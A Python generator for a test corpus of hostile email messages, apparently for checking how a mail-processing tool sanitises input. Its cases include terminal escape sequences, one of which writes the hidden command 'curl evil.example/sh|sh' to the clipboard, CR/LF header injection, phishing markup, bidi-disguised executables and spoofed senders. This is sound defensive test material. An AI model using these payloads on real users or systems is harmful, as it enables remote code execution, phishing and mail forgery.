"""Write the hostile-mail corpus: one ``.eml`` per case, every byte chosen here.

Run ``python tests/data/hostile/generate.py`` to rewrite the files; the tests read the
committed files and check they match (so a reviewer can read each case as bytes).
Each case names the attack it carries; ``CASES`` maps file name -> raw RFC 5322 bytes.
"""

from __future__ import annotations

import base64
from pathlib import Path

HERE = Path(__file__).resolve().parent
LIST = "security@frobnicator.example.org"


def b64word(text: str) -> str:
    return "=?utf-8?b?" + base64.b64encode(text.encode("utf-8")).decode("ascii") + "?="


def message(n: int, subject: str, sender: str, body: bytes | str, *, extra: str = "",
            message_id: str | None = None, content_type: str = "text/plain; charset=utf-8",
            cte: str = "8bit") -> bytes:
    mid = message_id or f"<hostile-{n:02d}@reporter.example>"
    head = (f"Message-ID: {mid}\r\n"
            f"From: {sender}\r\n"
            f"To: {LIST}\r\n"
            f"Subject: {subject}\r\n"
            f"Date: Tue, 01 Sep 2026 {10 + n // 60:02d}:{n % 60:02d}:00 +0000\r\n"
            f"MIME-Version: 1.0\r\n"
            f"Content-Type: {content_type}\r\n"
            f"Content-Transfer-Encoding: {cte}\r\n"
            f"{extra}")
    raw = body.encode("utf-8") if isinstance(body, str) else body
    return head.encode("utf-8") + b"\r\n" + raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


RITA = "Rita Reporter <rita@reporter.example>"

CASES: dict[str, bytes] = {
    # -- terminal escapes ---------------------------------------------------------------
    "01-osc0-title.eml": message(1, b64word("Crash \x1b]0;pwned title\x07 in parser"), RITA,
                                 "OSC 0 in the decoded subject would retitle the terminal.\n"),
    "02-osc52-clipboard.eml": message(2, b64word("Bug \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2h8c2g=\x07 report"), RITA,
                                      "OSC 52 writes the clipboard.\n"),
    "03-csi-body.eml": message(3, "Screen clear in the body", RITA,
                               "line one\n\x1b[2J\x1b[Hfake prompt $ \x9b31mC1 CSI\x9b0m\x07bell\rover\n"),
    "04-crlf-encoded-subject.eml": message(4, "=?utf-8?q?Hello=0D=0ACc:_attacker@evil.example?=", RITA,
                                           "CR/LF after RFC 2047 decoding.\n"),
    "05-nul-and-del.eml": message(5, b64word("nul\x00del\x7fc1\x85end"), RITA, "NUL, DEL and NEL.\n"),
    # -- markup ---------------------------------------------------------------------------
    "06-markdown-name.eml": message(
        6, "Markdown in the display name",
        '"![x](http://host.example/pixel) [Security Team](https://evil.example/login) @octocat" '
        "<md@reporter.example>",
        "Body with <img src=http://host.example/p> and **bold** and `code`.\n### Forged field\n"),
    "07-jira-wiki.eml": message(7, "{code}x{code} [~admin] *bold* ---", '"[~admin] {quote}" <wiki@reporter.example>',
                                "{noformat}\nh1. heading\n{code}\n[~admin] -strike- +under+ !http://evil.example/i.png!\n"),
    "08-rich-markup.eml": message(8, "[bold red]urgent[/] [link=https://evil.example]click[/link]", RITA,
                                  "[reverse]rich markup[/reverse]\n"),
    "09-backtick-message-id.eml": message(9, "Backtick in the Message-ID", RITA, "see the id\n",
                                          message_id="<abc`def``x@reporter.example>"),
    "10-html-only.eml": message(10, "HTML only", RITA,
                                '<html><body><p>Hi <img src="http://tracker.example/pixel.gif">'
                                '<a href="https://evil.example/login">Security Team</a>'
                                "<script>alert(1)</script></p></body></html>\n",
                                content_type="text/html; charset=utf-8"),
    # -- bidi and invisible ---------------------------------------------------------------
    "11-bidi-subject.eml": message(11, b64word("Invoice \u202efdp.exe for \u2066review\u2069 \u061c\u200e\u200f"),
                                   RITA, "RLO turns fdp.exe into exe.pdf.\n"),
    "12-zero-width-name.eml": message(12, "Zero-width sender", b64word("Ri\u200bta\u2060\u2063 Rep\u00adorter\ufeff") + " <rita@reporter.example>", "zero width\u200d joiner\n"),
    "13-tag-characters.eml": message(13, b64word("Tags \U000e0041\U000e0042\U000e007f hidden \u206a\u206f"), RITA,
                                     "tag characters\U000e0069\n"),
    "14-bidi-attachment.eml": message(
        14, "Attachment with a bidi name", RITA,
        "--b\nContent-Type: text/plain\n\nsee attached\n--b\nContent-Type: application/octet-stream\n"
        "Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\n"
        "Content-Transfer-Encoding: base64\n\nTVqQAA==\n--b--\n",
        content_type='multipart/mixed; boundary="b"'),
    # -- spoofed senders ------------------------------------------------------------------
    "15-spoofed-address-name.eml": message(15, "Spoofed sender", '"security@apache.org" <attacker@evil.example>',
                                           "The name is an address that is not the sender's.\n"),
    "16-spoofed-fullwidth-at.eml": message(16, "Spoofed with a fullwidth at",
                                           b64word("security\uff20apache.org") + " <attacker@evil.example>",
                                           "U+FF20 looks like @.\n"),
    # -- header folding and encoded-word tricks ---------------------------------------------
    "17-long-folded-subject.eml": message(
        17, "A very long subject " + "that keeps going\r\n " * 12 + b64word(" and ends encoded ✓"), RITA,
        "folded over many lines\n"),
    "18-encoded-word-in-quotes.eml": message(18, "Encoded word inside quotes",
                                             '"=?utf-8?q?Mallory=0A=1B[31m?=" <mallory@evil.example>',
                                             "RFC 2047 forbids decoding inside quotes; some parsers do.\n"),
    "19-bad-charset-and-broken-word.eml": message(
        19, "=?x-unknown?q?weird?= =?utf-8?b?bm90IGJhc2U2NA?= =?utf-8?q?broken", RITA, "unknown charset\n"),
    "20-iso2022-subject.eml": message(20, "=?iso-2022-jp?b?GyRCJDMkcyRLJEEkTxsoQg==?= \x1b(B after", RITA,
                                      "ISO-2022-JP uses ESC legitimately inside the encoded word.\n"),
    "21-crlf-in-name.eml": message(21, "CRLF in a display name",
                                   b64word("Eve\r\nBcc: all@example.org") + " <eve@evil.example>",
                                   "a name that would add a header\n"),
    "22-references-injection.eml": message(
        22, "Re: references", RITA, "reply\n",
        extra=("In-Reply-To: <parent@reporter.example>\r\n"
               "References: <a@reporter.example>\r\n <b@reporter.example> " + "<x@y> " * 40 + "\r\n")),
}


def main() -> None:
    for name, raw in CASES.items():
        (HERE / name).write_bytes(raw)


if __name__ == "__main__":
    main()
